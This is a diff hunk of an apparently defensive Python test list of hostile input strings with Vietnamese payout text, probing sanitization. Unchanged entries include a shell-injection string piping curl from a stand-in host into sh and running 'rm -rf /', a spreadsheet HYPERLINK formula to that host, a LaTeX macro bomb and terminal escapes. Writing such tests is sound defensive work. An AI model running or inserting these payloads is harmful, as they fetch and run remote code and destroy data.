@@ -109,7 +109,7 @@ ATTACKS = (
     Attack("very long line", "quỹ Thiên Lộc trả thưởng " * 2_000, defused=True),
     Attack("combining marks", "Qu" + "\u0303" * 300 + "ỹ Thiên Lộc", defused=True),
     Attack("latex", r"\href{http://ke-xau.example}{quỹ} $\def\x{\x\x}\x$"),
-    Attack("table", "Nội dung | Số tiền\n\n--- | ---\n\nQuỹ Thiên Lộc | 50.000.000 [1]"),
+    Attack("table", "Quỹ Thiên Lộc | 50.000.000 [1]", "txt", "Nội dung | Số tiền\n\nQuỹ Thiên Lộc | 50.000.000 [1]"),
     Attack("spreadsheet formula", '=HYPERLINK("http://ke-xau.example","Quỹ Thiên Lộc")'),
     Attack("shell", "$(curl http://ke-xau.example | sh); `rm -rf /`"),
     Attack("terminal escapes", "\x1b[2J\x1b[31mQuỹ Thiên Lộc\x1b[0m trả thưởng\x07.", defused=True),
